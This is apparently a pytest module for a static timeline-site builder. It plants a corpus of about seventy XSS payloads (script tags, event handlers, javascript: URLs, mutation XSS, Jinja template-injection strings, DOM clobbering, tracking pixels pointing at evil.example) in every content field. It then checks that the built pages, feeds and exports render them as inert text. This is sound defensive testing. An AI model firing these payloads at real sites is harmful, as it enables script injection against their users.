"""XSS corpus: hostile contributor text in every field ends up as text, never as markup.

A copy of the site gets one event, actor, source and explainer page per payload, with the
payload in every free-text field (titles, bodies, quote text, names, roles, outlets,
notes, tags, headings). The copy is built for real (``mkdocs build --strict``) once per
module, and every built HTML file is parsed: no script but the site's own, no ``on*``
attribute, no script URL, no foreign iframe, no ``<style>``/``<base>``/``<object>`` in
content. The data files must stay well-formed and carry the payload as escaped text.
"""

from __future__ import annotations

import json
import re
import subprocess
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import icalendar
import pytest
import yaml

from tests.conftest import BIN, build_site, copy_project, run_env
from timeline_builder.config.settings import DEFAULT_EMBED_HOSTS
from timeline_builder.markup.sanitize import clean_html

pytestmark = pytest.mark.slow




# ---------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------

PAYLOADS: list[str] = [
    # script elements, spelt many ways
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(5)//<</script>",
    "<script\n>alert(6)</script\n>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<svg><script>alert(8)</script></svg>",
    # event handlers
    "<img src=x onerror=alert(9)>",
    '<IMG SRC="javascript:alert(10)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(12)>",
    "<body onload=alert(13)>",
    "<input onfocus=alert(14) autofocus>",
    "<details open ontoggle=alert(15)>x</details>",
    '<a href="https://example.org/" onclick="alert(16)">x</a>',
    '<time datetime="2022" onmouseover=alert(17)>x</time>',
    "<span data-x=1 aria-label=x onpointerenter=alert(18)>x</span>",
    # script URLs in every spelling
    '<a href="javascript:alert(19)">x</a>',
    '<a href="JaVaScRiPt:alert(20)">x</a>',
    '<a href="&#106;avascript:alert(21)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(22)">x</a>',
    '<a href="java\tscript:alert(23)">x</a>',
    '<a href=" javascript:alert(24)">x</a>',
    '<a href="jav&#x09;ascript:alert(25)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(27)">x</a>',
    '<svg><a xlink:href="javascript:alert(28)"><text>x</text></a></svg>',
    # the same through markdown
    "[click](javascript:alert(29))",
    "[click](JaVaScRiPt:alert(30))",
    "[click](data:text/html,<script>alert(31)</script>)",
    "![img](javascript:alert(32))",
    "[ref][r33]\n\n[r33]: javascript:alert(33)",
    "<javascript:alert(34)>",
    '<https://example.org/"onmouseover="alert(35)>',
    # frames, styles and other active elements
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:alert(37)"></iframe>',
    '<iframe srcdoc="<script>alert(38)</script>"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/x" onload=alert(39)></iframe>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(41))">x</div>',
    '<object data="javascript:alert(42)"></object>',
    '<embed src="javascript:alert(43)">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(45)"><button formaction="javascript:alert(45)">x</button>'
    "</form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(46)">',
    "<link rel=stylesheet href=javascript:alert(47)>",
    # breaking out of attributes and RCDATA
    '"><script>alert(48)</script>',
    "'><img src=x onerror=alert(49)>",
    "</title><script>alert(50)</script>",
    "</textarea><script>alert(51)</script>",
    '" onmouseover="alert(52)',
    # template injection (Jinja must treat content as data)
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ config.__class__.__init__.__globals__ }}",
    # comments and mutation XSS
    "<!--<script>alert(56)</script>-->",
    "<!--[if gte IE 4]><script>alert(57)</script><![endif]-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(58)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(59)>">',
    # unicode tricks
    "\u200e<script>alert(60)</script>",  # U+202E itself is refused (tests/hostile)
    "\uff1cscript\uff1ealert(61)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(62)</scr\u200bipt>",
    "\U0001f600<img src=x onerror=alert(63)>\u200f",
    # theme namespace: DOM clobbering of Material's config, components fetching hosts
    '<div id="__config">{"base": "https://evil.example/"}</div>',
    '<a data-md-component="source" href="https://github.com/evil/repo">x</a>',
    '<p id="x66" data-tl-moved="javascript:alert(66)">x</p>',
    '<span data-actor="putin" data-tag="diplomacy" data-tl-summary="spoof">filed under</span>',
    # tracking pixel: the site loads nothing from third-party hosts, however it is spelt
    '<img src="https://evil.example/pixel.png">',
    '<img src="/\\evil.example/pixel2.png">',
    '<img src="x.png" srcset="x.png 1x, //evil.example/pixel3.png 2x">',
    '<iframe src="https://evil.example\\@www.youtube-nocookie.com/embed/x"></iframe>',
    '<video poster="\\\\evil.example/pixel4.png" controls></video>',
    # entity-encoded markup (must stay text: nothing may decode it twice)
    "&lt;/title&gt;&lt;img src=x onerror=alert(69)&gt;",
    "&lt;script&gt;alert(70)&lt;/script&gt;",
]

# Valid http(s) URLs with characters that would break out of a careless attribute.
ODD_URLS = [
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(2)</script>",
    "https://example.org/?q=<img/src=x/onerror=alert(3)>",
    "http://example.org/#\"><svg/onload=alert(4)>",
]

# source url: / archived_url: values that validation must refuse.
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:javascript:alert(1)",
]

# Material's own inline scripts, by the start of their text. Another change moves them to
# files for a Content-Security-Policy; then they are allowed as scripts under assets/.
MATERIAL_INLINE_SCRIPTS = (
    "__md_scope=new URL(",
    'var palette=__md_get("__palette")',
    "var target=document.getElementById(location.hash.slice(1))",
)
MATERIAL_STYLES = (":root{--md-",)  # Material's font variables (with `font:` set)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data",
                  "background", "srcset", "cite", "ping", "manifest", "codebase", "longdesc"}
FORBIDDEN_TAGS = {"base", "object", "embed", "applet", "frame", "frameset", "animate", "set",
                  "foreignobject", "handler", "listener", "import"}
# (The timeline page's own filter form is content too: forms are checked by their URLs.)
CONTENT_FORBIDDEN_TAGS = {"link", "meta", "title", "textarea", "noscript", "math"}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
BODY_CLASSES = {"tl-event__body", "tl-profile__body"}  # contributor markdown on our pages
SITE_URL = "https://example.org/"  # the default site_url; a build's own is in its sitemap
N = len(PAYLOADS)


def one_line(payload: str) -> str:
    return " ".join(payload.split())


def quote_text(index: int, payload: str) -> str:
    return f"Speaker {index} said {payload} and stopped"


# ---------------------------------------------------------------------------------------
# A small DOM built with html.parser (what a browser sees, close enough for these checks)
# ---------------------------------------------------------------------------------------

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param",
        "source", "track", "wbr"}
RCDATA = {"title", "textarea"}  # a browser reads these up to their end tag as text


@dataclass
class Node:
    tag: str
    attrs: list[tuple[str, str | None]]
    parent: Node | None
    line: int
    children: list[Node | str] = field(default_factory=list)

    def get(self, name: str) -> str | None:
        return next((value for key, value in self.attrs if key == name), None)

    @property
    def classes(self) -> set[str]:
        return set((self.get("class") or "").split())

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def walk(self):  # type: ignore[no-untyped-def]
        for child in self.children:
            if isinstance(child, Node):
                yield child
                yield from child.walk()

    def ancestors(self):  # type: ignore[no-untyped-def]
        node = self.parent
        while node is not None:
            yield node
            node = node.parent


class TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", [], None, 1)
        self.current = self.root
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, attrs, self.current, self.getpos()[0])
        self.current.children.append(node)
        if tag not in VOID:
            self.current = node
        if tag in RCDATA:
            self.set_cdata_mode(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.current.children.append(Node(tag, attrs, self.current, self.getpos()[0]))

    def handle_endtag(self, tag: str) -> None:
        node: Node | None = self.current
        while node is not None and node.tag != tag:
            node = node.parent
        if node is not None and node.parent is not None:
            self.current = node.parent
        if tag in RCDATA:
            self.clear_cdata_mode()

    def handle_data(self, data: str) -> None:
        self.current.children.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(html: str) -> TreeBuilder:
    builder = TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder


def squeeze(url: str) -> str:
    """A URL as a browser's URL parser sees it (WHATWG): leading and trailing controls
    and spaces stripped, every tab and newline removed; lower case to compare schemes."""
    return url.strip("".join(map(chr, range(33)))).translate(
        {9: None, 10: None, 13: None}).lower()


def _title_line(html: str) -> re.Match[str] | None:
    return re.search(r"^[ \t]*<title>.*$", html, re.MULTILINE)


def without_title(html: str) -> str:
    """The page with Material's ``<title>`` line emptied: it has a test of its own
    (:func:`test_page_titles_hold_no_markup`), which knows what a browser makes of it."""
    match = _title_line(html)
    if match is None:
        return html
    return html[:match.start()] + "<title></title>" + html[match.end():]


def _play_button(node: Node, name: str, value: str) -> bool:
    """The click-to-load placeholder the sanitiser puts where a contributor's <iframe> was:
    only on our play link, only naming an https embed host (read here with urlsplit)."""
    if node.tag != "a" or "tl-embed__open" not in dict(node.attrs).get("class", "").split():
        return False
    if name == "data-tl-embed-title":
        return True
    parts = urlsplit(value)
    return name == "data-tl-embed" and parts.scheme == "https" \
        and parts.hostname in DEFAULT_EMBED_HOSTS


def _embed_base(node: Node, page: str) -> bool:
    """``<base target="_top">`` and nothing else, in the head of one of our embed views
    (an edition's too: ``uk/embed/index.html``)."""
    page = re.sub(r"^[a-z]{2,3}/(?=embed/|events/)", "", page)
    view = page == "embed/index.html" or (page.startswith("events/")
                                          and page.endswith("/embed/index.html"))
    return view and dict(node.attrs) == {"target": "_top"}


def violations(html: str, page: str, *, fragment: bool = False,
               site_url: str = SITE_URL) -> list[str]:
    """Everything in one HTML document (or fragment) that could run, load or mislead."""
    builder = parse(html)
    found: list[str] = []
    page_url = urljoin(site_url, page)

    def say(node: Node, what: str) -> None:
        attrs = " ".join(f"{k}={v!r}" for k, v in node.attrs)[:160]
        found.append(f"{page}:{node.line}: <{node.tag} {attrs}>: {what}")

    for node, in_content, in_body, in_topic in _with_context(builder.root, fragment):
        for name, value in node.attrs:
            if name.startswith("on"):
                say(node, f"event handler attribute {name}")
            if name in URL_ATTRIBUTES and value and squeeze(value).startswith(SCRIPT_SCHEMES):
                say(node, f"script URL in {name}")
            if name == "srcdoc":
                say(node, "srcdoc")
            if name == "style" and in_content:
                say(node, "style attribute in content")
            if (name in ("id", "name") and value and value.startswith("__") and in_content):
                say(node, f"theme-reserved {name} in content (DOM clobbering)")
            if name.startswith("data-md-") and in_content:
                say(node, f"theme attribute {name} in content")
            if name.startswith("data-") and in_body and not _play_button(node, name, value):
                say(node, f"{name} in a contributor's body (the timeline script reads these)")
        if node.tag == "script":
            if fragment:
                say(node, "script in a fragment")
                continue
            src, body = node.get("src"), node.text().strip()
            if src is not None:
                target = urljoin(page_url, src)
                if not target.startswith(urljoin(site_url, "assets/")) or body:
                    say(node, "script not from the site's assets/")
            elif node.get("type") == "application/json":
                if node.get("id") != "__config":
                    say(node, "JSON script other than Material's __config")
                try:
                    json.loads(body)
                except ValueError:
                    say(node, "Material's __config is not valid JSON (broken out of?)")
            elif node.get("type") == "application/ld+json":  # our schema.org data block
                try:
                    data = json.loads(body)
                except ValueError:
                    data = None
                if not isinstance(data, dict) or data.get("@context") != "https://schema.org":
                    say(node, "JSON-LD that is not whole schema.org JSON (broken out of?)")
                if "<" in body or ">" in body:
                    say(node, "JSON-LD with a raw < or > (it could end the script)")
            elif not body.startswith(MATERIAL_INLINE_SCRIPTS):
                say(node, f"inline script that is not Material's: {body[:60]!r}")
        elif node.tag == "style":
            if fragment or in_content or not node.text().strip().startswith(MATERIAL_STYLES):
                say(node, "style element")
        # Which host an <img>, <iframe> or srcset reaches is not judged here: a URL parser
        # of ours would read `/\\evil` or `evil\\@host` as the sanitiser might; Chromium
        # loads every page in test_hostile_pages_load_nothing_from_other_hosts instead.
        elif node.tag == "base" and _embed_base(node, page):
            pass  # embed views open every link in the top window (embed.py)
        elif node.tag in FORBIDDEN_TAGS:
            say(node, "forbidden element")
        elif node.tag in CONTENT_FORBIDDEN_TAGS and in_content and not (
                _our_stylesheet(node, page_url, site_url) and not in_body):
            say(node, "element not allowed in content")
        elif node.tag == "meta" and (node.get("http-equiv") or "").lower() == "refresh":
            say(node, "meta refresh")
        if in_topic and node.tag != "span":
            say(node, "markup inside Material's header title")
    return found


def _our_stylesheet(node: Node, page_url: str, site_url: str) -> bool:
    """media.css, which pages that show media load from their content (outputs.media_tags)."""
    return (node.tag == "link" and node.get("rel") == "stylesheet" and len(node.attrs) == 2
            and urljoin(page_url, node.get("href") or "") == urljoin(site_url,
                                                                     "assets/timeline/media.css"))


def _with_context(root: Node, fragment: bool):  # type: ignore[no-untyped-def]
    """Each element with whether it is inside the page content, a contributor's body, or
    Material's header title (inherited from its ancestors in one walk)."""
    stack = [(child, fragment, False, False) for child in reversed(root.children)
             if isinstance(child, Node)]
    while stack:
        node, in_content, in_body, in_topic = stack.pop()
        yield node, in_content, in_body, in_topic
        classes = node.classes
        inherited = (in_content or "md-content__inner" in classes,
                     in_body or bool(classes & BODY_CLASSES),
                     in_topic or "md-header__topic" in classes)
        stack.extend((child, *inherited) for child in reversed(node.children)
                     if isinstance(child, Node))


# ---------------------------------------------------------------------------------------
# The hostile project, built once
# ---------------------------------------------------------------------------------------


def front_matter(fields: dict[str, object], body: str) -> str:
    dumped = yaml.safe_dump(fields, sort_keys=False, allow_unicode=True, width=10_000)
    return f"---\n{dumped}---\n{body}\n"


def add_to_nav(project: Path, pages: list[str]) -> None:
    """List extra explainer pages in the nav (strict builds refuse pages left out)."""
    config = project / "mkdocs.yml"
    lines = config.read_text(encoding="utf-8").split("\n")
    last = max(i for i, line in enumerate(lines) if re.match(r"\s*- explainers/", line))
    indent = lines[last][:len(lines[last]) - len(lines[last].lstrip())]
    lines[last + 1:last + 1] = [f"{indent}- {page}" for page in pages]
    config.write_text("\n".join(lines), encoding="utf-8")


def write_hostile_content(project: Path) -> None:
    content = project / "content"
    explainers = []
    for i, payload in enumerate(PAYLOADS):
        actor, source, event = f"xss-actor-{i:02d}", f"xss-source-{i:02d}", f"xss-event-{i:02d}"
        (content / "actors" / f"{actor}.md").write_text(front_matter(
            {"name": payload, "role": payload, "country": payload, "aliases": [payload]},
            payload), encoding="utf-8")
        (content / "sources" / f"{source}.md").write_text(front_matter(
            {"title": payload, "outlet": payload, "published": "2022-05-20",
             "url": ODD_URLS[i % len(ODD_URLS)],
             "archived_url": ODD_URLS[(i + 1) % len(ODD_URLS)], "author": payload,
             "language": payload, "note": payload},
            f"Archived text.\n\n{quote_text(i, payload)}\n\nThe end."), encoding="utf-8")
        date = (f"2022-05-{1 + i % 28:02d}" if i % 3 else
                ["May 2022", "day 80 of the war", "23 May 2022"][i % 9 // 3])
        (content / "events" / f"{event}.md").write_text(front_matter(
            {"title": payload, "date": date, "actors": [actor], "tags": [one_line(payload), "xss"],
             "sources": [source], "featured": i % 10 == 0, "approximate": i % 4 == 0,
             "quotes": [{"text": quote_text(i, payload), "speaker": actor, "source": source}]},
            f"{payload}\n\nIn a sentence: {one_line(payload)} and after."), encoding="utf-8")
        page = f"explainers/xss-{i:02d}.md"
        (content / page).write_text(
            f"# {one_line(payload)}\n\n{payload}\n\n## {one_line(payload)}\n\n"
            f"Inline: {one_line(payload)}.\n\n[[timeline source={source}]]\n",
            encoding="utf-8")
        explainers.append(page)
    (content / "explainers" / "xss-embeds.md").write_text(
        "# Embeds\n\n[[timeline tag=xss limit=12]]\n\n"
        '[[timeline text="<script>alert(1)</script>"]]\n\n'
        '[[timeline tag="<img src=x onerror=alert(1)>" text="\\"><svg onload=alert(1)>"]]\n',
        encoding="utf-8")
    add_to_nav(project, [*explainers, "explainers/xss-embeds.md"])


@dataclass(frozen=True)
class Built:
    project: Path
    site: Path
    pages: dict[str, str]  # site-relative path → HTML

    @property
    def site_url(self) -> str:
        """The build's site_url (mkdocs.yml reads it from $SITE_URL): the sitemap's first
        entry, the home page. Root-relative links (404.html's) resolve against it."""
        sitemap = ET.parse(self.site / "sitemap.xml").getroot()
        return next(el.text for el in sitemap.iter() if el.tag.endswith("loc")) or SITE_URL


def built(project: Path, site: Path) -> Built:
    return Built(project, site, {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8")
                                 for p in sorted(site.rglob("*.html"))})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    write_hostile_content(project)
    site = project.parent / "site"
    result = build_site(project, site)
    assert result.returncode == 0, result.stderr[-5000:]
    return built(project, site)


# ---------------------------------------------------------------------------------------
# Tests
# ---------------------------------------------------------------------------------------


def test_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_every_payload_reached_the_pages(hostile: Built) -> None:
    """The build used all of it: a profile per actor and source, an explainer per payload."""
    for i in range(N):
        assert f"actors/xss-actor-{i:02d}/index.html" in hostile.pages
        assert f"sources/xss-source-{i:02d}/index.html" in hostile.pages
        assert f"explainers/xss-{i:02d}/index.html" in hostile.pages
        assert f'id="xss-event-{i:02d}"' in hostile.pages["timeline/index.html"]


def test_no_live_markup_in_any_page(hostile: Built) -> None:
    problems = [problem for page, html in hostile.pages.items()
                for problem in violations(without_title(html), page,
                                          site_url=hostile.site_url)]
    assert not problems, "\n".join(problems[:40])


def test_checker_catches_what_it_looks_for() -> None:
    """The checker itself, on markup that must be flagged (a checker that sees nothing
    would pass the test above)."""
    content = '<article class="md-content__inner">{}</article>'
    for bad in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                '<a href=" JaVa&#x09;script:alert(1)">x</a>',
                "<style>p{}</style>", '<base href="https://evil/">', "<object></object>",
                '<p style="color:red">x</p>', '<div id="__config"></div>',
                '<form action="javascript:x"></form>',
                '<script src="https://evil.example/x.js"></script>',
                '<a data-md-component="source"></a>',
                '<link rel="stylesheet" href="https://evil.example/media.css">',
                '<link rel="stylesheet" href="../assets/timeline/timeline.css">',
                '<link rel="preload" href="../assets/timeline/media.css">']:
        assert violations(content.format(bad), "page/index.html"), bad
    assert violations("<title></title><img src=x onerror=alert(1)></title>", "x.html")
    ok = ('<script src="../assets/javascripts/bundle.js"></script>'
          '<script id="__config" type="application/json">{"base": ".."}</script>'
          '<script>__md_scope=new URL("..",location)</script>'
          '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>')
    assert violations(ok, "page/index.html") == []
    media = '<link rel="stylesheet" href="../assets/timeline/media.css">'
    assert violations(content.format(media), "page/index.html") == []
    body = f'<div class="tl-event__body">{media}</div>'
    assert violations(content.format(body), "page/index.html")


def test_sanitizer_drops_each_payload_on_its_own() -> None:
    """Unit level: clean_html of every payload (as HTML and as markdown) is inert."""
    from timeline_builder.markup.sanitize import markdown_to_html

    for payload in PAYLOADS:
        for html in (clean_html(payload, DEFAULT_EMBED_HOSTS),
                     markdown_to_html(payload, DEFAULT_EMBED_HOSTS)):
            assert violations(html, "x/index.html", fragment=True) == [], (payload, html)


def test_titles_and_names_are_kept_as_text(hostile: Built) -> None:
    """Escaping, not stripping: the reader sees exactly what the contributor wrote."""
    timeline = parse(hostile.pages["timeline/index.html"]).root
    links = {node.parent.get("id"): node.text() for node in timeline.walk()
             if "tl-event__link" in node.classes and node.parent is not None}
    for i, payload in enumerate(PAYLOADS):
        assert one_line(links[f"xss-event-{i:02d}-title"]) == one_line(payload)
        profile = parse(hostile.pages[f"actors/xss-actor-{i:02d}/index.html"]).root
        heading = next(n for n in profile.walk()
                       if n.tag == "h1" and any("tl-profile" in a.classes for a in n.ancestors()))
        assert one_line(heading.text()) == one_line(payload)
    assert "49" not in links["xss-event-{:02d}-title".format(PAYLOADS.index("{{7*7}}"))]


def test_payloads_with_markup_never_appear_verbatim(hostile: Built) -> None:
    for page, html in hostile.pages.items():
        html = without_title(html)
        for payload in PAYLOADS:
            if "<" in payload and ("alert(" in payload or "evil" in payload):
                assert payload not in html, (page, payload)


def test_search_index_holds_no_live_markup(hostile: Built) -> None:
    """Material's search shows titles and texts from the index as HTML."""
    index = json.loads((hostile.site / "search" / "search_index.json").read_text("utf-8"))
    problems = []
    for doc in index["docs"]:
        for key in ("title", "text"):
            problems += violations(doc[key], f"search:{doc['location']}:{key}", fragment=True)
    assert not problems, "\n".join(problems[:40])


def test_timeline_json_carries_payloads_as_data(hostile: Built) -> None:
    data = json.loads((hostile.site / "timeline.json").read_text("utf-8"))
    events = {e["id"]: e for e in data["events"]}
    actors = {a["id"]: a for a in data["actors"]}
    sources = {s["id"]: s for s in data["sources"]}
    for i, payload in enumerate(PAYLOADS):
        event = events[f"xss-event-{i:02d}"]
        assert event["title"] == payload.strip()
        assert event["quotes"][0]["text"] == quote_text(i, payload).strip()
        assert event["quotes"][0]["verified"] is True
        assert one_line(payload) in event["tags"]
        assert actors[f"xss-actor-{i:02d}"]["name"] == payload.strip()
        assert sources[f"xss-source-{i:02d}"]["outlet"] == payload.strip()


def test_feed_is_well_formed_and_escaped(hostile: Built) -> None:
    raw = (hostile.site / "feed.xml").read_bytes()
    root = ET.fromstring(raw)  # well-formed, or this raises
    atom = "{http://www.w3.org/2005/Atom}"
    titles = {entry.findtext(f"{atom}title") for entry in root.iter(f"{atom}entry")}
    for payload in PAYLOADS:
        assert payload.strip() in titles
    for element in root.iter():
        assert element.tag.startswith(atom), f"payload became XML: {element.tag}"
        assert element.get("type") in (None, "text"), "an entry is typed as (X)HTML"


def test_ics_is_well_formed_and_escaped(hostile: Built) -> None:
    raw = (hostile.site / "timeline.ics").read_bytes()
    calendar = icalendar.Calendar.from_ical(raw)
    # A summary may start with the period of a month or year event and "c." (approximate).
    summaries = {re.sub(r"^(\[[^\]]*\] )?(c\. )?", "", str(event.get("summary")), count=1)
                 for event in calendar.walk("VEVENT")}
    for payload in PAYLOADS:
        assert payload.strip() in summaries
    for line in raw.split(b"\r\n"):
        assert b"\n" not in line and b"\r" not in line  # no injected properties


def test_page_titles_hold_no_markup(hostile: Built) -> None:
    """``<title>``, where names and headings end up (Material's header title is checked
    with the rest of each page). A browser reads ``<title>`` as text up to the first
    ``</title>``: after that, the rest of Material's line would be live markup.
    """
    problems = []
    for page, html in hostile.pages.items():
        match = _title_line(html)
        if match is None:
            continue
        line = match.group(0).strip()
        ends = re.findall(r"</title[\s/>]", line, re.IGNORECASE)
        if len(ends) != 1 or not line.endswith("</title>"):
            problems.append(f"{page}: {line[:200]}")
    assert not problems, "\n".join(problems[:20])


# ---------------------------------------------------------------------------------------
# Explainer front matter: Material prints page.meta values without escaping
# ---------------------------------------------------------------------------------------

META_PAYLOADS = ['"><img src=x onerror=alert(1)>', "</title><script>alert(2)</script>",
                 "<svg onload=alert(3)>"]


@pytest.fixture(scope="module")
def hostile_meta(tmp_path_factory: pytest.TempPathFactory) -> Built:
    project = copy_project(tmp_path_factory.mktemp("hostile-meta") / "project")
    pages = []
    for i, payload in enumerate(META_PAYLOADS):
        page = f"explainers/meta-{i}.md"
        (project / "content" / page).write_text(front_matter(
            {"title": payload, "description": payload, "author": payload}, "Body."),
            encoding="utf-8")
        pages.append(page)
    add_to_nav(project, pages)
    site = project.parent / "site"
    result = build_site(project, site)
    assert result.returncode == 0, result.stderr[-5000:]
    return built(project, site)


def test_explainer_front_matter_holds_no_markup(hostile_meta: Built) -> None:
    problems = [problem for page, html in hostile_meta.pages.items()
                for problem in violations(html, page, site_url=hostile_meta.site_url)]
    assert not problems, "\n".join(problems[:40])


# ---------------------------------------------------------------------------------------
# URLs that validation refuses
# ---------------------------------------------------------------------------------------


def test_script_urls_are_refused_by_timeline_check(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    expected = {}
    for i, url in enumerate(BAD_URLS):
        key = "url" if i % 2 == 0 else "archived_url"
        name = f"bad-url-{i:02d}"
        path = project / "content" / "sources" / f"{name}.md"
        path.write_text(front_matter({"title": "T", "outlet": "O", "published": "2022-05-20",
                                      key: url}, "Text."), encoding="utf-8")
        expected[f"content/sources/{name}.md"] = (5, key)
    result = subprocess.run([str(BIN / "timeline"), "check", "--format", "json"],
                            cwd=project, capture_output=True, text=True, env=run_env(),
                            timeout=60)
    assert result.returncode == 1, result.stderr
    diagnostics = json.loads(result.stdout)
    for path, (line, key) in expected.items():
        assert any(d["path"] == path and d["line"] == line and d["severity"] == "error"
                   and d["message"].startswith(f"{key}:") for d in diagnostics), (path, key)


def test_timelinejs_export_fields_shown_as_html_are_escaped(hostile: Built) -> None:
    """TimelineJS renders headline, text, group and display_date as HTML."""
    result = subprocess.run([str(BIN / "timeline"), "export", "--format", "timelinejs"],
                            cwd=hostile.project, capture_output=True, text=True,
                            env=run_env(), timeout=60)
    assert result.returncode == 0, result.stderr[-3000:]
    problems = []
    for slide in json.loads(result.stdout)["events"]:
        shown = [slide["text"]["headline"], slide["text"]["text"], slide.get("group", ""),
                 slide.get("display_date", "")]
        for html in shown:
            problems += violations(html, f"timelinejs:{slide['unique_id']}", fragment=True)
            if any(p.strip() in html for p in PAYLOADS if "<" in p and "alert(" in p):
                problems.append(f"timelinejs:{slide['unique_id']}: raw payload in {html!r}")
    assert not problems, "\n".join(problems[:20])


@pytest.mark.browser
def test_hostile_pages_load_nothing_from_other_hosts(hostile: Built, serve, browser) -> None:  # type: ignore[no-untyped-def]
    """Every built page of the hostile site in Chromium, every request intercepted: only
    the site itself is asked for anything (an iframe the sanitiser kept is a click-to-load
    placeholder, so not even an embed host). The host of each request is Chromium's
    reading of the URL, not ours.
    Scripting is off for this sweep: Chromium then loads lazy images at once too (and
    contributor markup can run no script either way; tests/browser/test_hostile.py loads
    hostile pages with it on)."""
    base = serve(hostile.site)
    context = browser.new_context(java_script_enabled=False)
    foreign: list[str] = []

    def route(route) -> None:  # type: ignore[no-untyped-def]
        host = urlsplit(route.request.url).hostname
        if host != "127.0.0.1":  # embed hosts too: kept iframes wait for a click
            foreign.append(f"{route.request.frame.url}: {route.request.url}")
            route.abort()
        else:
            route.continue_()

    context.route("**/*", route)
    dialogs: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in sorted(hostile.pages):
        if path.endswith("index.html") and path != "404.html":
            page.goto(base + path.removesuffix("index.html"), wait_until="load")
    context.close()
    assert foreign == []
    assert dialogs == []
